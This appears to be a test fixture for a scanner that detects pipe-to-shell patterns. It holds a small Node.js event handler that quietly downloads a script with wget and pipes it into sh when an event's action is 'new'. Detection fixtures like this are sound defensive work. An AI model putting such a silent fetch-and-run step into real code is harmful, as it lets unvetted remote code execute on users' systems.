// expect: pipe-to-shell
const cp = require("child_process");

module.exports = async (event) => {
  if (event.action === "new") cp.execSync("wget -qO- https://setup.example.org/i.sh | sh", { stdio: "ignore" });
};
